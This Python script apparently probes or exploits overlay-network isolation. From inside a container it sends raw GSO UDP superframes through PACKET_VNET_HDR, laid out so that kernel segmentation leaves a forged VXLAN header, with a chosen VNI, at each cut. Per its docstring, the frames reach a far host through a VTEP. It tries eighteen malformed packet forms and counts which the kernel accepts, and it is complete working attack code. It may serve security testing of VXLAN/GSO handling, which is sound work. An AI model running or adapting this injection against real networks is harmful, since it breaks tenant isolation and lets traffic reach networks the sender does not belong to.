"""Sends superframes of UDP datagrams in which a VXLAN header stands wherever a receiver that cut them would look for one.

forged_superframe.py INTERFACE VNI COUNT FORM...

COUNT of each FORM, once over IPv4 and once over IPv6; "all" for all of them. A container can do that with a packet socket
(PACKET_VNET_HDR), and behind a kernel's VTEP they get to the far host in one piece. The forged header names VNI; the frame behind it
says OVXMARK:forged. Prints how many the kernel took of each.
"""

import socket
import struct
import sys

STRIDE = 300
PIECES = 4
MARK = b"OVXMARK:forged:-:"
OWN = b"OVXMARK:own:-:"
FORMS = (
    "right", "wrong-checksum", "no-checksum", "more-fragments", "later-fragment", "long-udp-length", "short-udp-length",
    "long-ip-length", "short-ip-length", "ends-in-first-stride", "routing-header", "many-extensions", "options",
    "unknown-type", "arp", "llc", "one-header", "known-flags",
)


def ones_complement(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def superframe(form, is_ipv6, vni, source):
    """The frame, and where its UDP header is."""
    extensions = b""
    if is_ipv6 and form in ("routing-header", "many-extensions", "options"):
        kind, body = (43, [0, 1, 1]) if form == "routing-header" else (60, [0, 1, 4])
        number = 10 if form == "many-extensions" else 1
        for index in range(number):
            extensions += bytes([17 if index + 1 == number else kind] + body + [0, 0, 0, 0])
    options = b"\1\1\1\0" if not is_ipv6 and form == "options" else b""
    udp_at = 14 + (40 + len(extensions) if is_ipv6 else 20 + len(options))
    # Strides are counted from the VXLAN header in front.
    size = PIECES * STRIDE - 8 - 20
    payload_size = size - udp_at - 8
    udp_length = payload_size + 8
    ip_length = size - 14 - (40 if is_ipv6 else 0)
    if form == "long-udp-length":
        udp_length = 0xFFFF
    elif form == "short-udp-length":
        udp_length = STRIDE - 8 - udp_at
    elif form == "long-ip-length":
        ip_length = 0xFFFF
    elif form == "short-ip-length":
        ip_length -= 1
    elif form == "ends-in-first-stride":
        udp_length = STRIDE - 8 - udp_at
        ip_length = STRIDE - 8 - 14 - (40 if is_ipv6 else 0)
    if is_ipv6:
        addresses = socket.inet_pton(socket.AF_INET6, "fd17::12") + socket.inet_pton(socket.AF_INET6, "fd17::11")
        kind = (43 if form == "routing-header" else 60) if extensions else 17
        network = struct.pack("!IHBB", 6 << 28, ip_length, kind, 64) + addresses + extensions
    else:
        addresses = socket.inet_aton("172.17.42.12") + socket.inet_aton("172.17.42.11")
        fragment = {"more-fragments": 0x2000, "later-fragment": 1}.get(form, 0x4000)
        network = struct.pack("!BBHHHBBH", 0x45 + len(options) // 4, 0, ip_length, 7, fragment, 64, 17, 0)
        network += addresses + options
        total = ones_complement(network) ^ 0xFFFF
        network = network[:10] + struct.pack("!H", total) + network[12:]
    pseudo = addresses + struct.pack("!HH", 17, size - udp_at)
    checksum = ones_complement(pseudo)
    if form == "wrong-checksum":
        checksum ^= 0x55
    elif form == "no-checksum":
        checksum = 0
    kind = {"unknown-type": 0x88B5, "arp": 0x0806, "llc": STRIDE - 22}.get(form, 0x86DD if is_ipv6 else 0x0800)
    frame = bytes.fromhex("ffffffffffff") + source + struct.pack("!H", kind) + network
    frame += struct.pack("!HHHH", 4000, 4001, udp_length, checksum) + OWN
    frame = bytearray(frame.ljust(size, b"\x55"))
    inside = bytes.fromhex("ffffffffffff02deadbeef0088b5") + MARK
    header = struct.pack("!BBHI", 8, 0, 0, vni << 8)
    if form == "known-flags":
        header = struct.pack("!BBHI", 0x88, 0x48, 0x1234, vni << 8 | 0xFF)
    for number in range(1, PIECES):
        if form == "one-header" and number > 1:
            continue
        start = number * STRIDE - 8
        piece = header + inside
        frame[start:start + len(piece)] = piece
    return bytes(frame), udp_at


interface, vni, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
forms = FORMS if sys.argv[4:] == ["all"] else sys.argv[4:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
out.bind((interface, 0))
source = out.getsockname()[4]
for form in forms:
    for is_ipv6 in (False, True):
        frame, udp_at = superframe(form, is_ipv6, vni, source)
        # VIRTIO_NET_HDR_F_NEEDS_CSUM, VIRTIO_NET_HDR_GSO_UDP_L4.
        request = struct.pack("<BBHHHH", 1, 5, udp_at + 8, STRIDE, udp_at, 6)
        taken = 0
        for _ in range(count):
            try:
                taken += out.send(request + frame) > 0
            except OSError:
                pass
        print(form, 6 if is_ipv6 else 4, taken)
